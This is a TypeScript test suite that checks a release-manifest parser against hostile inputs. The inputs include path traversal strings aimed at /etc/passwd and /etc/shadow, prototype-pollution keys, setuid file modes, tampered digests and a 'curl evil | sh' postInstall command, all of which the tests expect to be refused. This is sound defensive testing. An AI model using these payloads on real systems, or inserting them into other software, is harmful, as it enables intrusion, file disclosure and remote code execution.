/**
 * Hostile release manifests against parseManifest and unsafePathReason: unsafe paths in
 * every spelling, unicode tricks, duplicates, file-and-folder collisions, wrong digests,
 * huge numbers, prototype-pollution keys, deep nesting. Every case: the expected
 * SlipwayError code (or, for harmless lookalikes, acceptance with the right id), and
 * Object.prototype untouched.
 */
import assert from 'node:assert/strict';
import path from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { SlipwayError } from '../../src/errors.js';
import { canonicalManifestBytes, parseManifest, releaseIdOf, unsafePathReason, type ReleaseManifest } from '../../src/release/manifest.js';
import { entryListsLookSound, isPlainRelativePath } from '../../src/release/manifest-files.js';
import { createLocalStore } from '../../src/store/local-store.js';
import { putRelease } from '../../src/store/releases.js';
import { assertPrototypeClean, expectThrows, fcOptions, runWithDeadline, sampleRelease, tempRoot } from './harness.js';

function base(): ReleaseManifest {
  return sampleRelease().manifest;
}

/** The manifest as JSON with one change made to a deep copy of it. */
function changed(edit: (m: any) => void): string {
  const m = structuredClone(base()) as any;
  edit(m);
  return JSON.stringify(m);
}

function withFiles(paths: string[]): string {
  return changed((m) => {
    m.files = paths.map((p) => ({ path: p, sha256: 'a'.repeat(64), mode: 0o644, size: 1 }));
  });
}

interface ManifestCase {
  name: string;
  bytes: () => string | Buffer;
  /** the id the caller expects; 'base' for the unchanged manifest's id */
  expectedId?: 'base' | string;
  code: 'RELEASE_MANIFEST_INVALID' | 'RELEASE_MANIFEST_TAMPERED';
  /** matched against the message and details */
  reason?: RegExp;
}

const UNSAFE_PATHS: [string, string, RegExp][] = [
  ['a ../ path', '../etc/passwd', /'\.\.' segment/],
  ['a ../ in the middle', 'app/../../x', /'\.\.' segment/],
  ['a bare ..', '..', /'\.\.' segment/],
  ['a bare .', '.', /'\.' segment/],
  ['a ./ prefix', './server.js', /'\.' segment/],
  ['a /./ segment', 'a/./b', /'\.' segment/],
  ['an absolute path', '/etc/passwd', /absolute path/],
  ['a double slash', 'a//b', /empty segment/],
  ['a trailing slash', 'a/', /empty segment/],
  ['an empty path', '', /empty path/],
  ['a backslash traversal', '..\\..\\x', /backslash/],
  ['a backslash separator', 'a\\b', /backslash/],
  ['a drive letter', 'C:/Windows/x', /drive letter/],
  ['a drive-relative path', 'c:x', /drive letter/],
  ['a NUL byte', 'server.js\u0000.png', /NUL byte/],
  ['a NUL byte before ..', 'a\u0000/../../x', /NUL byte/],
  ['4097 characters', `${'a/'.repeat(2048)}x`, /longer than 4096/],
];

const CASES: ManifestCase[] = [
  // not a manifest at all
  { name: 'empty bytes', bytes: () => '', code: 'RELEASE_MANIFEST_INVALID', reason: /not valid JSON/ },
  { name: 'binary garbage', bytes: () => Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 131) & 0xff)), code: 'RELEASE_MANIFEST_INVALID', reason: /not valid JSON/ },
  { name: 'a byte-order mark before the JSON', bytes: () => `\uFEFF${JSON.stringify(base())}`, code: 'RELEASE_MANIFEST_INVALID', reason: /not valid JSON/ },
  { name: 'JSON null', bytes: () => 'null', code: 'RELEASE_MANIFEST_INVALID' },
  { name: 'a JSON list', bytes: () => '[]', code: 'RELEASE_MANIFEST_INVALID' },
  { name: 'a JSON number', bytes: () => '1e999', code: 'RELEASE_MANIFEST_INVALID' },
  { name: '200,000 nested lists', bytes: () => `${'['.repeat(200_000)}${']'.repeat(200_000)}`, code: 'RELEASE_MANIFEST_INVALID' },
  { name: '200,000 nested lists, fetched by id (too deep to canonicalize)', bytes: () => `${'['.repeat(200_000)}${']'.repeat(200_000)}`, expectedId: 'base', code: 'RELEASE_MANIFEST_TAMPERED' },
  { name: 'a deeply nested message field, fetched by id', bytes: () => JSON.stringify({ ...base(), message: 'X' }).replace('"X"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`), expectedId: 'base', code: 'RELEASE_MANIFEST_TAMPERED' },
  { name: 'invalid JSON fetched by id', bytes: () => '{', expectedId: 'base', code: 'RELEASE_MANIFEST_TAMPERED' },

  // wrong digests
  { name: 'one changed byte in a file digest, fetched by id', bytes: () => changed((m) => (m.files[0].sha256 = `b${m.files[0].sha256.slice(1)}`)), expectedId: 'base', code: 'RELEASE_MANIFEST_TAMPERED' },
  { name: 'an added file, fetched by id', bytes: () => changed((m) => m.files.push({ path: 'zz-evil.js', sha256: 'a'.repeat(64), mode: 0o755, size: 1 })), expectedId: 'base', code: 'RELEASE_MANIFEST_TAMPERED' },
  { name: 'a __proto__ key with an object value, fetched by id (dropped by canonical JSON, refused by the schema)', bytes: () => JSON.stringify(base()).replace('{"schema"', '{"__proto__":{"polluted":true},"schema"'), expectedId: 'base', code: 'RELEASE_MANIFEST_INVALID', reason: /Unrecognized key: "__proto__"/ },
  { name: 'an upper-case digest', bytes: () => changed((m) => (m.files[0].sha256 = m.files[0].sha256.toUpperCase())), code: 'RELEASE_MANIFEST_INVALID', reason: /64 lowercase hex/ },
  { name: 'a 63-character digest', bytes: () => changed((m) => (m.files[0].sha256 = m.files[0].sha256.slice(1))), code: 'RELEASE_MANIFEST_INVALID', reason: /64 lowercase hex/ },
  { name: 'a digest with a trailing newline', bytes: () => changed((m) => (m.files[0].sha256 = `${m.files[0].sha256}\n`)), code: 'RELEASE_MANIFEST_INVALID', reason: /64 lowercase hex/ },

  // prototype pollution and unknown keys
  { name: '__proto__ at the top', bytes: () => JSON.stringify(base()).replace('{"schema"', '{"__proto__":{"polluted":true},"schema"'), code: 'RELEASE_MANIFEST_INVALID', reason: /Unrecognized key: "__proto__"/ },
  { name: '__proto__ in a file entry', bytes: () => JSON.stringify(base()).replace('{"path"', '{"__proto__":{"polluted":true},"path"'), code: 'RELEASE_MANIFEST_INVALID', reason: /Unrecognized key: "__proto__"/ },
  { name: '__proto__ in runtime', bytes: () => JSON.stringify(base()).replace('"runtime":{', '"runtime":{"__proto__":{"services":[1]},'), code: 'RELEASE_MANIFEST_INVALID', reason: /Unrecognized key: "__proto__"/ },
  { name: 'constructor.prototype at the top', bytes: () => JSON.stringify(base()).replace('{"schema"', '{"constructor":{"prototype":{"polluted":true}},"schema"'), code: 'RELEASE_MANIFEST_INVALID', reason: /Unrecognized key: "constructor"/ },
  { name: 'an unknown top-level key', bytes: () => changed((m) => (m.postInstall = 'curl evil | sh')), code: 'RELEASE_MANIFEST_INVALID', reason: /Unrecognized key: "postInstall"/ },
  { name: 'schema 2', bytes: () => changed((m) => (m.schema = 2)), code: 'RELEASE_MANIFEST_INVALID', reason: /schema/ },
  { name: 'no files key', bytes: () => changed((m) => delete m.files), code: 'RELEASE_MANIFEST_INVALID', reason: /files/ },
  { name: 'files as an object with numeric keys', bytes: () => changed((m) => (m.files = { 0: m.files[0], length: 1 })), code: 'RELEASE_MANIFEST_INVALID', reason: /files/ },

  // file lists
  ...UNSAFE_PATHS.map(([name, p, reason]): ManifestCase => ({ name: `an unsafe path: ${name}`, bytes: () => withFiles([p]), code: 'RELEASE_MANIFEST_INVALID', reason })),
  { name: 'a duplicate path', bytes: () => withFiles(['a.js', 'a.js']), code: 'RELEASE_MANIFEST_INVALID', reason: /duplicate/ },
  { name: 'paths out of order', bytes: () => withFiles(['b.js', 'a.js']), code: 'RELEASE_MANIFEST_INVALID', reason: /not sorted/ },
  { name: 'a path that is both a file and a folder', bytes: () => withFiles(['lib', 'lib/x.js']), code: 'RELEASE_MANIFEST_INVALID', reason: /both a file and a folder/ },
  { name: 'a file that is a folder three levels up', bytes: () => withFiles(['a', 'a-b', 'a/b/c/d.js']), code: 'RELEASE_MANIFEST_INVALID', reason: /"a" is both a file and a folder/ },

  // numbers and modes
  { name: 'a negative size', bytes: () => changed((m) => (m.files[0].size = -1)), code: 'RELEASE_MANIFEST_INVALID', reason: /size/ },
  { name: 'a fractional size', bytes: () => changed((m) => (m.files[0].size = 1.5)), code: 'RELEASE_MANIFEST_INVALID', reason: /size/ },
  { name: 'a size past 2^53', bytes: () => JSON.stringify(base()).replace(/"size":\d+/, '"size":9007199254740993'), code: 'RELEASE_MANIFEST_INVALID', reason: /size/ },
  { name: 'a size of 1e400 (Infinity)', bytes: () => JSON.stringify(base()).replace(/"size":\d+/, '"size":1e400'), code: 'RELEASE_MANIFEST_INVALID', reason: /size/ },
  { name: 'a size written as text', bytes: () => changed((m) => (m.files[0].size = '30')), code: 'RELEASE_MANIFEST_INVALID', reason: /size/ },
  { name: 'mode 0o777', bytes: () => changed((m) => (m.files[0].mode = 0o777)), code: 'RELEASE_MANIFEST_INVALID', reason: /mode/ },
  { name: 'mode 0o4755 (setuid)', bytes: () => changed((m) => (m.files[0].mode = 0o4755)), code: 'RELEASE_MANIFEST_INVALID', reason: /mode/ },

  // other fields that end up in file names, commands or the host's data folder
  { name: 'a version that climbs out', bytes: () => changed((m) => (m.version = '../../etc')), code: 'RELEASE_MANIFEST_INVALID', reason: /version/ },
  { name: 'a version with a newline', bytes: () => changed((m) => (m.version = 'v1\nv2')), code: 'RELEASE_MANIFEST_INVALID', reason: /version/ },
  { name: 'a 200-character version', bytes: () => changed((m) => (m.version = `v${'1'.repeat(199)}`)), code: 'RELEASE_MANIFEST_INVALID', reason: /version/ },
  { name: 'a short commit id', bytes: () => changed((m) => (m.commit = 'abc123')), code: 'RELEASE_MANIFEST_INVALID', reason: /commit/ },
  { name: 'a date that is no date', bytes: () => changed((m) => (m.date = 'yesterday')), code: 'RELEASE_MANIFEST_INVALID', reason: /date/ },
  { name: 'a sqlite database path that climbs out', bytes: () => changed((m) => (m.runtime.data.databases = [{ name: 'main', engine: 'sqlite', path: '../../etc/shadow' }])), code: 'RELEASE_MANIFEST_INVALID', reason: /runtime\.data\.databases/ },
  { name: 'an absolute data folder', bytes: () => changed((m) => (m.runtime.data.folders = ['/var/lib/postgresql'])), code: 'RELEASE_MANIFEST_INVALID', reason: /runtime\.data\.folders/ },
  { name: 'a health path without a leading slash', bytes: () => changed((m) => (m.runtime.services = [{ name: 'web', command: 'x', portEnv: 'PORT', env: {}, health: { path: '@evil.example/', intervalMs: 1, timeoutMs: 1, successes: 1, deadlineMs: 1 } }])), code: 'RELEASE_MANIFEST_INVALID', reason: /health\.path/ },
  { name: 'a service env value that is not text', bytes: () => changed((m) => (m.runtime.services = [{ name: 'web', command: 'x', portEnv: 'PORT', env: { A: { toString: 'x' } }, health: { path: '/', intervalMs: 1, timeoutMs: 1, successes: 1, deadlineMs: 1 } }])), code: 'RELEASE_MANIFEST_INVALID', reason: /env/ },
  { name: 'a hook on a step that does not exist', bytes: () => changed((m) => (m.runtime.hooks = [{ when: 'before', step: 'pwn', commands: ['x'] }])), code: 'RELEASE_MANIFEST_INVALID', reason: /hooks/ },
];

for (const c of CASES) {
  test(`manifest: ${c.name} → ${c.code}`, () => {
    const expectedId = c.expectedId === 'base' ? releaseIdOf(base()) : c.expectedId;
    const error = expectThrows(() => parseManifest(c.bytes(), expectedId), c.code);
    if (c.reason) assert.match([error.message, ...error.details].join('\n'), c.reason);
    assert.ok(error.hint, 'says what to do next');
    assertPrototypeClean();
  });
}

// Lookalikes that are ordinary names on a POSIX file system: accepted, and they stay inside the root.
const HARMLESS_LOOKALIKES: [string, string][] = [
  ['a two-dot leader (U+2025)', '\u2025/x'],
  ['fullwidth dots (U+FF0E)', '\uff0e\uff0e/x'],
  ['one dot leader twice (U+2024)', '\u2024\u2024/x'],
  ['percent-encoded dots', '%2e%2e/x'],
  ['a dot-dot-dot segment', '.../x'],
  ['a leading-dot name', '..hidden/x'],
  ['a name ending in dots', 'x../y'],
  ['a name with spaces around dots', ' .. /x'],
  ['a right-to-left override', 'evil\u202egnp.js'],
];

for (const [name, p] of HARMLESS_LOOKALIKES) {
  test(`manifest: ${name} is an ordinary name: accepted, with the id of its canonical bytes, inside the root`, () => {
    const bytes = withFiles([p]);
    const id = releaseIdOf(JSON.parse(bytes) as ReleaseManifest);
    const manifest = parseManifest(bytes, id);
    assert.equal(manifest.files[0].path, p);
    assert.equal(releaseIdOf(manifest), id);
    const root = '/srv/app/releases/x';
    assert.ok(path.resolve(root, p).startsWith(`${root}/`), path.resolve(root, p));
  });
}

test('manifest: a __proto__ key with a text value inside a service env, fetched by id, is dropped by both the digest and the parser', () => {
  const m = structuredClone(base());
  m.runtime.services = [{ name: 'web', command: 'x', portEnv: 'PORT', env: { A: 'b' }, health: { path: '/', intervalMs: 1, timeoutMs: 1, successes: 1, deadlineMs: 1 } }];
  const id = releaseIdOf(m);
  const bytes = JSON.stringify(m).replace('"env":{', '"env":{"__proto__":"polluted",');
  const parsed = parseManifest(bytes, id);
  assert.deepEqual(parsed.runtime.services[0].env, { A: 'b' });
  assert.equal(Object.getPrototypeOf(parsed.runtime.services[0].env), Object.prototype);
  assert.equal(releaseIdOf(parsed), id, 'what was parsed is exactly what the id pins');
  assertPrototypeClean();
});

test('manifest: 300 files 2,000 folders deep are refused as too deep (the folder checks stay linear in the manifest size)', async () => {
  const m = structuredClone(base());
  const deep = 'a/'.repeat(2040);
  m.files = Array.from({ length: 300 }, (_, i) => ({ path: `${deep}${String(i).padStart(4, '0')}`, sha256: 'a'.repeat(64), mode: 0o644 as const, size: 0 }));
  const bytes = JSON.stringify(m);
  // The deadline only guards against a hang (it was minutes before the depth bound); it asserts no speed.
  await assert.rejects(
    runWithDeadline<ReleaseManifest>({ moduleUrl: new URL('../../src/release/manifest.js', import.meta.url), exportName: 'parseManifest', args: [bytes, releaseIdOf(m)], deadlineMs: 60_000 }),
    /unsafe file paths|deeper than 255 folders/,
  );
  const shallow = structuredClone(base());
  shallow.files = [{ path: `${'a/'.repeat(254)}f`, sha256: 'a'.repeat(64), mode: 0o644 as const, size: 0 }];
  assert.equal(parseManifest(JSON.stringify(shallow), releaseIdOf(shallow)).files.length, 1, '255 folders deep is still accepted');
});

// --- properties

const pathAlphabet = fc.constantFrom('a', 'b', '.', '..', '/', '\\', '\0', ' ', 'C:', ':', '\u00e9', '\u2025', '\uff0e', '~', '-', '%2e');
const pathArbitrary = fc.oneof(fc.array(pathAlphabet, { maxLength: 12 }).map((parts) => parts.join('')), fc.string({ maxLength: 20 }), fc.string({ unit: 'binary', maxLength: 20 }));

test('manifest property: a path unsafePathReason accepts is already normal and resolves inside the root; one it refuses is empty, not normal, or climbs out', () => {
  const root = '/srv/app/releases/r';
  fc.assert(
    fc.property(pathArbitrary, (p) => {
      const reason = unsafePathReason(p);
      if (reason === undefined) {
        assert.equal(path.posix.normalize(p), p, 'normalize changes nothing');
        assert.ok(!path.posix.isAbsolute(p));
        const resolved = path.posix.resolve(root, p);
        assert.ok(resolved.startsWith(`${root}/`), `${JSON.stringify(p)} resolves to ${resolved}`);
        assert.equal(path.posix.relative(root, resolved), p, 'and back');
        assert.ok(!p.includes('\0') && !p.includes('\\'));
      } else {
        assert.equal(typeof reason, 'string');
        const refusedForAReason =
          p.length > 4096 ||
          p.includes('\0') ||
          p.includes('\\') ||
          /^[A-Za-z]:/.test(p) ||
          path.posix.normalize(p) !== p ||
          p.split('/').some((s) => s === '' || s === '.' || s === '..');
        assert.ok(refusedForAReason, `refused ${JSON.stringify(p)} (${reason}) without a reason`);
      }
    }),
    fcOptions(1000),
  );
});

/** What the one-pass checks must agree with, written the plain way. */
function plainlySafe(p: string): boolean {
  return p.length > 0 && p.length <= 4096 && !p.includes('\0') && !p.includes('\\') && !/^[A-Za-z]:/.test(p) && p.split('/').length <= 256 && !p.split('/').some((s) => s === '' || s === '.' || s === '..');
}

function plainlySound(files: string[], links: string[]): boolean {
  const all = [...files, ...links];
  const sorted = (list: string[]) => list.every((p, i) => i === 0 || list[i - 1] < p);
  if (!all.every(plainlySafe) || !sorted(files) || !sorted(links) || new Set(all).size !== all.length) return false;
  // no entry is a folder of another (nothing lies under a file or a link)
  return !all.some((folder) => all.some((p) => p.startsWith(`${folder}/`)));
}

test('manifest property: the one-pass path check agrees with the plain rules on every path', () => {
  const deep = `${'a/'.repeat(255)}b`;
  for (const p of [deep, `a/${deep}`, 'x'.repeat(4096), 'x'.repeat(4097), 'c:', 'C:x', '1:x', ':a', 'a:b', '.a/..b/...', 'a/.', 'a/..', '..', '.']) {
    assert.equal(isPlainRelativePath(p), plainlySafe(p), JSON.stringify(p).slice(0, 80));
  }
  fc.assert(
    fc.property(pathArbitrary, (p) => {
      assert.equal(isPlainRelativePath(p), plainlySafe(p), JSON.stringify(p));
      if (isPlainRelativePath(p)) assert.equal(unsafePathReason(p), undefined);
      else assert.equal(typeof unsafePathReason(p), 'string');
    }),
    fcOptions(2000),
  );
});

test('manifest property: the one-pass list check (sorted, no duplicates, nothing under a file or a link) agrees with the plain rules', () => {
  const entry = fc.array(fc.constantFrom('a', 'b', 'a.b', 'a-b', 'c'), { minLength: 1, maxLength: 4 }).map((parts) => parts.join('/'));
  const list = fc.oneof(fc.array(entry, { maxLength: 8 }), fc.array(entry, { maxLength: 8 }).map((l) => [...new Set(l)].sort()));
  fc.assert(
    fc.property(list, list, (files, links) => {
      const asEntries = (l: string[]) => l.map((p) => ({ path: p }));
      assert.equal(entryListsLookSound(asEntries(files), asEntries(links)), plainlySound(files, links), JSON.stringify({ files, links }));
    }),
    fcOptions(3000),
  );
});

test('manifest property: any JSON value, with or without the id of its own canonical bytes → RELEASE_MANIFEST_INVALID, never TAMPERED or another error', () => {
  const keyed = fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'schema', 'files', 'path', 'a'), fc.jsonValue({ maxDepth: 3 }));
  fc.assert(
    fc.property(fc.oneof(fc.jsonValue({ maxDepth: 6 }), keyed), fc.boolean(), (value, withId) => {
      const text = JSON.stringify(value);
      // the id a store would hold for these bytes, had slipway written them
      const id = withId ? releaseIdOf(JSON.parse(text) as ReleaseManifest) : undefined;
      try {
        parseManifest(text, id);
        assert.fail(`accepted ${text}`);
      } catch (error) {
        assert.ok(error instanceof SlipwayError, String(error));
        assert.equal(error.code, 'RELEASE_MANIFEST_INVALID');
      }
      assertPrototypeClean();
    }),
    fcOptions(300),
  );
});

/** A valid manifest with one field replaced by a hostile value, at any depth. */
const hostileValue = fc.oneof(
  fc.constantFrom(null, true, 0, -1, 1.5, 2 ** 53 + 2, '', '..', '/etc', '__proto__', 'a'.repeat(5000), [], {}, { __proto__: null }, { polluted: true }, [null], 0o777, 0o755),
  fc.jsonValue({ maxDepth: 2 }),
);

function fieldPaths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (value === null || typeof value !== 'object') return [prefix];
  const entries = Array.isArray(value) ? value.map((v, i) => [i, v] as const) : Object.entries(value);
  return [prefix, ...entries.flatMap(([key, v]) => fieldPaths(v, [...prefix, key]))];
}

function richManifest(): ReleaseManifest {
  const m = structuredClone(base());
  m.runtime = {
    services: [{ name: 'web', command: 'node server.js', portEnv: 'PORT', env: { NODE_ENV: 'production' }, health: { path: '/healthz', intervalMs: 500, timeoutMs: 2000, successes: 2, deadlineMs: 30_000 } }],
    data: { databases: [{ name: 'main', engine: 'sqlite', path: 'db/app.sqlite' }], folders: ['uploads'] },
    migrate: { command: 'node migrate.js', reversible: false, timeoutMs: 60_000 },
    hooks: [{ when: 'after', step: 'migrate', commands: ['node warm.js'] }],
    config: [{ name: 'SECRET_KEY', required: true, secret: true }],
  };
  return m;
}

test('manifest property: one field of a valid manifest replaced by a hostile value (or a key added) → still valid, or RELEASE_MANIFEST_INVALID', () => {
  const rich = richManifest();
  const paths = fieldPaths(rich);
  fc.assert(
    fc.property(fc.constantFrom(...paths), hostileValue, fc.boolean(), fc.constantFrom('__proto__', 'constructor', 'extra', 'path'), (at, value, addKey, key) => {
      const m = structuredClone(rich) as any;
      let parent = m;
      for (const segment of at.slice(0, -1)) parent = parent[segment];
      const last = at[at.length - 1];
      if (at.length === 0) return; // the root itself: covered by the JSON-value property
      if (addKey && parent[last] !== null && typeof parent[last] === 'object' && !Array.isArray(parent[last])) {
        Object.defineProperty(parent[last], key, { value, enumerable: true, configurable: true, writable: true });
      } else {
        parent[last] = value;
      }
      const bytes = JSON.stringify(m);
      try {
        const parsed = parseManifest(bytes);
        assert.equal(parsed.schema, 1);
        // The digest an id check computes from these bytes pins exactly what the parser returned.
        assert.equal(releaseIdOf(parsed), releaseIdOf(JSON.parse(bytes) as ReleaseManifest));
        for (const file of parsed.files) assert.equal(unsafePathReason(file.path), undefined);
      } catch (error) {
        assert.ok(error instanceof SlipwayError, `${String(error)} for ${bytes.slice(0, 200)}`);
        assert.equal(error.code, 'RELEASE_MANIFEST_INVALID');
      }
      assertPrototypeClean();
    }),
    fcOptions(300),
  );
});

test('manifest property: any single-byte change to canonical bytes fetched by id → refused, or parsed into exactly the manifest the id pins', () => {
  const m = richManifest();
  const canonical = canonicalManifestBytes(m);
  const id = releaseIdOf(m);
  fc.assert(
    fc.property(fc.nat({ max: canonical.length - 1 }), fc.integer({ min: 1, max: 255 }), fc.constantFrom('xor', 'insert', 'delete'), (at, byte, kind) => {
      const bytes =
        kind === 'xor'
          ? Buffer.from(canonical).fill(canonical[at] ^ byte, at, at + 1)
          : kind === 'insert'
            ? Buffer.concat([canonical.subarray(0, at), Buffer.from([byte]), canonical.subarray(at)])
            : Buffer.concat([canonical.subarray(0, at), canonical.subarray(at + 1)]);
      try {
        const parsed = parseManifest(bytes, id);
        // Only a change that leaves the parsed value identical can pass (e.g. whitespace inserted between tokens).
        assert.equal(releaseIdOf(parsed), id);
        assert.deepEqual(parsed, m);
      } catch (error) {
        assert.ok(error instanceof SlipwayError, String(error));
        assert.match(error.code, /^RELEASE_MANIFEST_(TAMPERED|INVALID)$/);
      }
    }),
    fcOptions(300),
  );
});

test('a manifest of another app, well formed and validly signed, is refused under this app (RELEASE_WRONG_APP) before the store changes', async (t) => {
  const root = tempRoot(t);
  const store = createLocalStore(path.join(root, 'store'));
  const release = sampleRelease();
  const foreign: ReleaseManifest = { ...release.manifest, app: 'someone-else' };
  const id = releaseIdOf(foreign);
  const byDigest = new Map(foreign.files.map((f) => [f.sha256, release.contents.get(f.path)!]));
  for (const app of ['victim', '__proto__', 'constructor']) {
    await assert.rejects(
      putRelease(store, { app, id, manifestBytes: canonicalManifestBytes(foreign), content: { read: async (d) => byDigest.get(d)! } }),
      (error: unknown) => error instanceof SlipwayError && error.code === 'RELEASE_WRONG_APP' && /someone-else/.test(error.message),
    );
  }
  assert.deepEqual(await store.list(''), [], 'the store changed');
  assertPrototypeClean();
});
